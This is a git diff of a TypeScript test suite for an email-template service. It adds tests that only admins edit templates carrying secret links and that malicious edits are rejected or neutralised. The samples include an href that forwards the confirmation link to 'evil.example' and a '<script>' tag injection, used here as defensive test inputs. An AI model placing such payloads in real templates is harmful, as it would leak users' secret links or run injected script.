@@ -1,5 +1,7 @@
 import { catalogue } from '../../../lib/notifications/catalogue.ts';
 import { templateNames } from '../../../lib/notifications/model.ts';
+import { wordingWrites } from '../../../lib/notifications/repository/wordings.ts';
+import { commit } from '../../../lib/platform/storage/commit.ts';
 import { type MailSink, startMailSink } from '../../../localstack/sandboxes/mail/index.ts';
 import { drain, startAws, type TestAws, type TestRuntime } from '../../support/aws/index.ts';
 import {
@@ -16,6 +18,7 @@ let aws: TestAws;
 let sink: MailSink;
 let rt: TestRuntime;
 let manager: Person;
+let admin: Person;
 
 beforeAll(async () => {
   sink = await startMailSink();
@@ -25,6 +28,7 @@ beforeEach(async () => {
   aws = await startAws();
   rt = await mailRuntime(aws, sink);
   manager = person(rt, 'manager');
+  admin = person(rt, 'admin');
 });
 afterAll(() => sink.stop());
 
@@ -32,7 +36,7 @@ const PATH = '/v1/notification-templates/email-confirmation';
 const { en } = catalogue['email-confirmation'].shipped;
 
 const edit = (wording: object, ifMatch = '"0"', key = fresh('k')) =>
-  manager.call(`POST ${PATH}/versions`, { key, ifMatch, body: { locale: 'en', ...en, ...wording } });
+  admin.call(`POST ${PATH}/versions`, { key, ifMatch, body: { locale: 'en', ...en, ...wording } });
 
 test('R-NOT-01 the catalogue is listed with what each template may name', async () => {
   const { body } = await manager.call('GET /v1/notification-templates');
@@ -47,7 +51,7 @@ test('R-NOT-01 an edited wording is in force for what is composed after it, and 
   expect(first).toMatchObject({
     status: 201,
     headers: { etag: '"1"' },
-    body: { version: 1, actorId: manager.id },
+    body: { version: 1, actorId: admin.id },
   });
   expect((await edit({ subject: 'Two' }, '"1"')).status).toBe(201);
   const after = confirmation();
@@ -73,7 +77,7 @@ test('R-NOT-01 R-ADM-02 who edited what is in the audit log', async () => {
   expect(body.items).toEqual([
     expect.objectContaining({
       action: 'notification-template.edited',
-      actor: expect.objectContaining({ id: manager.id }),
+      actor: expect.objectContaining({ id: admin.id }),
       details: { locale: 'en', version: 1 },
     }),
   ]);
@@ -88,7 +92,7 @@ test.each([
   ],
   [
     'one in a branch never taken',
-    { html: '{% if name == "x" %}{{ age }}{% endif %}{{ link }}' },
+    { html: '{% if name == "x" %}{{ age }}{% endif %}<p>{{ link }}</p>' },
     'body.html',
     /unknown variable age/,
   ],
@@ -118,6 +122,50 @@ test.each([
   expect(preview).toMatchObject({ status: 422, body: { code: 'template-broken' } });
   expect((await manager.call(`GET ${PATH}?locale=en`)).body.version).toBe(0);
 });
+
+test('R-NOT-02 a template with a secret link is edited by admins, any other by managers', async () => {
+  const body = { locale: 'en', ...en };
+  const [key, ifMatch] = [fresh('k'), '"0"'];
+  expect(await manager.call(`POST ${PATH}/versions`, { key, ifMatch, body })).toMatchObject({
+    status: 403,
+    body: { code: 'template-admin-only' },
+  });
+  const welcome = '/v1/notification-templates/staff-welcome/versions';
+  const { en: words } = catalogue['staff-welcome'].shipped;
+  const plain = { key, ifMatch, body: { locale: 'en', ...words } };
+  expect((await admin.call(`POST ${welcome}`, plain)).body.code).toBe('template-manager-only');
+  expect((await manager.call(`POST ${welcome}`, plain)).status).toBe(201);
+});
+
+test.each([
+  ['a wrapped link', { html: '<a href="https://evil.example/?l={{ link }}">x</a>' }, /whole href/],
+  ['a script', { html: '<script>1</script><p>{{ link }}</p>' }, /tag <script>/],
+  ['a foreign address', { text: 'https://evil.example\n{{ link }}' }, /not listed/],
+])(
+  'R-NOT-02 an edit with %s is refused, and one published before gives way to what we ship',
+  async (_, wording, words) => {
+    const answer = await edit(wording);
+    expect(answer).toMatchObject({ status: 422, body: { code: 'template-broken' } });
+    expect(answer.body.errors[0].message).toMatch(words);
+    const at = new Date(rt.clock.nowMs()).toISOString();
+    const stored = {
+      ...en,
+      ...wording,
+      template: 'email-confirmation',
+      locale: 'en',
+      version: 1,
+      at,
+      actorId: 'usr_1',
+    } as const;
+    await commit(rt, { writes: wordingWrites(rt, stored) });
+    const request = confirmation();
+    await askFor(rt, request);
+    await drain(rt);
+    const [letter] = sink.letters(request.recipient.email);
+    expect(letter?.html).not.toMatch(/evil|<script/);
+    expect((await noteOf(rt, request))?.templateVersion).toBe(0);
+  },
+);
 
 test('R-NOT-01 two editors: the later one is told, and nothing is overwritten', async () => {
   const answers = await Promise.all([edit({ subject: 'A' }), edit({ subject: 'B' })]);
